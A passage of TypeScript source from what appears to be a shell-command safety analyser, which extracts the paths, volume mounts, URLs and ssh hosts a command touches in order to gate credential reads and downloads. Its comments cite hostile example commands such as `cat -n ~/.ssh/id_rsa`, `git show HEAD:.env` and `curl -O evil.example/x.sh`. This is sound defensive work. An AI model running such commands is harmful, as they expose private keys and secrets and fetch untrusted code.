  // A file as a revision holds it (`git show HEAD:.env`): the same file, its committed content.
  if (roles.revisionPaths !== undefined) {
    for (const word of w.positionals.slice(subLength)) {
      const m = /^[^\s:]*:(?:[0-3]:)?(?!\/\/)(.+)$/.exec(word);
      if (m !== null && !isUrl(word)) add(m[1]!, roles.revisionPaths, { mayBePath: true, positional: true });
    }
  }
  for (const opt of roles.volumes ?? []) {
    // A mount source from an unknown expansion (`-v "$D:/k"`) may be any host directory: it counts, and gates.
    for (const v of w.options.get(opt) ?? []) {
      const source = v.split(":")[0] ?? "";
      // The whole tree below a folder of the home is open to the container: a mount of `~/.config` holds gh's and
      // gcloud's logins as surely as one of `~/.config/gh` (docs/adr/0636). Mounts of the home itself, `/` and
      // `/etc` are host escapes, asked as such (ADR 0122), not credential reads.
      add(source, "read", { mayBePath: hasExpansion(source), recursive: BELOW_HOME.test(source) });
    }
  }
  for (const [key, mode] of Object.entries(roles.keyValue ?? {})) {
    for (const a of w.args) if (a.startsWith(`${key}=`)) add(a.slice(key.length + 1), mode);
  }
  // The value of an option no role names is still read when it looks like a path: a flag wrongly known as taking
  // a value (`cat -n ~/.ssh/id_rsa` once hid the key behind `-n`), or a program's file option nobody listed.
  const roled = new Set([
    ...Object.keys(roles.options ?? {}),
    ...(roles.atFiles ?? []),
    ...(roles.namedAtFiles ?? []),
    ...(roles.volumes ?? []),
    ...(roles.extractsTo ?? []),
    ...(roles.remoteName?.dir ?? []),
  ]);
  for (const [opt, values] of w.options) {
    if (roled.has(opt)) continue;
    // Not text that reads as code or prose (`python -c "print(…)"`, `-m "fix src/a.ts"`).
    for (const v of values)
      if (!/[\s()'"`;{}<>|&$]/.test(v) && looksLikePath(v) && !REMOTE_SPEC.test(v)) add(v, "read", { mayBePath: true });
  }
  return out;
}

/** curl -F's parameters after a file name: `f=@x;type=text/plain;filename=y`. */
const FORM_PARAMETERS = /;(?:type|filename|headers|encoder)=.*$/;
/** An HTTP method word before an httpie-style URL. */
const HTTP_METHOD = /^(?:get|head|post|put|patch|delete|options|trace|connect)$/i;
/** httpie-style items that name a file: `@F`, `f@F`, `f=@F`, `f:=@F`, `H:@F`, `f==@F` (the separator, then `@`). */
const ITEM_FILE = /^(?:[^=:@\s]*(?:==|:=|=|:))?@(.+)$|^[^=:@\s]+@(.+)$/;

/** The files httpie-style request items send: the items after an optional method and the URL. */
function requestItemFiles(positionals: readonly string[]): string[] {
  const start = HTTP_METHOD.test(positionals[0] ?? "") ? 2 : 1;
  return positionals.slice(start).flatMap((item) => {
    const m = ITEM_FILE.exec(item);
    const file = m?.[1] ?? m?.[2];
    return file === undefined || file === "" ? [] : [file.replace(FORM_PARAMETERS, "")];
  });
}

/** The value of the first of these options in the raw words (`-d DIR`, `--directory=DIR`), whatever the program's values say. */
function rawOption(args: readonly string[], options: readonly string[]): string | undefined {
  for (let i = 0; i < args.length; i++) {
    const a = args[i]!;
    if (options.includes(a)) return args[i + 1];
    const eq = a.indexOf("=");
    if (eq > 0 && options.includes(a.slice(0, eq))) return a.slice(eq + 1);
  }
  return undefined;
}

/** The `within` option values (PathRoles.within) with where each was given, in argument order. */
function baseDirs(roles: PathRoles, w: CommandWords): readonly { readonly at: number; readonly dir: string }[] {
  const out: { at: number; dir: string }[] = [];
  for (const opt of roles.within ?? []) {
    const at = w.optionAt.get(opt) ?? [];
    (w.options.get(opt) ?? []).forEach((dir, i) => out.push({ at: at[i] ?? 0, dir }));
  }
  return out.sort((a, b) => a.at - b.at);
}

/** A relative operand under the last base directory given before it (`-C ~ .ssh` → `~/.ssh`); others as written. */
/** The word for names a program reads from a pipe nobody here can read: an expansion, so never resolved. */
const STDIN_NAMES = "$(names read from stdin)";

function relativeTo(bases: readonly { readonly at: number; readonly dir: string }[], at: number, word: string): string {
  const base = bases.filter((b) => b.at < at).pop();
  if (base === undefined || base.dir === "" || word.startsWith("/") || word.startsWith("~")) return word;
  return `${base.dir.replace(/\/+$/, "")}/${word}`;
}

/** The files a download saves under the URLs' own names (`curl -O URL`, `wget URL`): see PathRoles.remoteName. */
function remoteNameWrites(r: NonNullable<PathRoles["remoteName"]>, w: CommandWords, subLength: number): PathWord[] {
  const has = (flags: readonly string[] | undefined) => flags?.some((f) => w.flags.has(f) || w.options.has(f)) === true;
  if ((r.when !== undefined && !has(r.when)) || has(r.unless)) return [];
  const dir = r.dir.flatMap((o) => w.options.get(o) ?? [])[0] ?? ".";
  if (has(r.anyName)) return [{ word: dir, mode: "write", via: "argument", positional: false, recursive: true }];
  // A bare `host/path` is fetched over http (`curl -O evil.example/x.sh` saves x.sh), as urlsOf reads it.
  return w.positionals
    .slice(subLength)
    .flatMap((p) => (isUrl(p) ? [p] : BARE_HOST.test(p) ? [`http://${p}`] : []))
    .map(
      (url): PathWord => ({
        word: `${dir.replace(/\/+$/, "")}/${remoteFileName(url)}`,
        mode: "write",
        via: "argument",
        positional: false,
      }),
    );
}

/** `git@github.com:a/b.git`, `deploy@host:/srv`: an scp-style remote that names a user. */
const USER_AT_HOST = /^[A-Za-z0-9._-]+@[A-Za-z0-9.-]+:/;
const URL_RE = /^[a-z][a-z0-9+.-]*:\/\/[^\s]+$/i;

function isUrl(word: string): boolean {
  return URL_RE.test(word);
}

function looksLikePath(word: string): boolean {
  return word.includes("/") || word.startsWith(".") || word.startsWith("~") || /\.[A-Za-z0-9]{1,8}$/.test(word);
}

/** `host:path` or `user@host:path` (scp, rsync): a remote place, not a local path. */
const REMOTE_SPEC = /^(?:[^@/:]+@)?[A-Za-z0-9._-]+:/;
const REMOTE_SHELLS = new Set(["ssh", "mosh", "autossh"]);
const REMOTE_COPIES = new Set(["scp", "sftp", "rsync"]);

/** Hosts reached by remote shells (`ssh host cmd`: the first operand) and copies (`scp f host:dir`), as ssh:// URLs. */
function remoteHosts(cmd: SimpleCommand, words: CommandWords): string[] {
  if (REMOTE_SHELLS.has(cmd.program)) {
    const host = words.positionals[0];
    return host === undefined ? [] : [`ssh://${host.includes("@") ? host.slice(host.indexOf("@") + 1) : host}`];
  }
  if (!REMOTE_COPIES.has(cmd.program)) return [];
  const out: string[] = [];
  for (const w of words.positionals) {
    const m = /^(?:[^@/:]+@)?([A-Za-z0-9._-]+):/.exec(w);
    if (m?.[1] !== undefined && !w.includes("://")) out.push(`ssh://${m[1]}`);
  }
  return out;
}

/** Every URL among the arguments (including option values like `--url=`), and `user@host:path` remote specs. */
function urlsOf(cmd: SimpleCommand, words: CommandWords): string[] {
  const out: string[] = [];
  for (const a of cmd.args) {
    const v = a.startsWith("-") && a.includes("=") ? a.slice(a.indexOf("=") + 1) : a;
    if (isUrl(v)) out.push(v);
    else if (USER_AT_HOST.test(v)) out.push(`ssh://${v.slice(v.indexOf("@") + 1, v.indexOf(":"))}`);
  }
  // curl and friends take a bare `host/path` operand as http (`curl evil.example/x`); nc and telnet a bare host.
  if (HOST_CLIENTS.has(cmd.program))
    for (const p of words.positionals) if (!isUrl(p) && BARE_HOST.test(p)) out.push(`http://${p}`);
  return out;
}

/** `evil.example`, `evil.example:8080/x`, `10.0.0.1`: a dotted name or address with an optional port and path, not a file name. */
const BARE_HOST =
  /^(?:[A-Za-z0-9-]+\.)+[A-Za-z][A-Za-z0-9-]*\.?(?::\d+)?(?:\/\S*)?$|^\d{1,3}(?:\.\d{1,3}){3}(?::\d+)?(?:\/\S*)?$/;
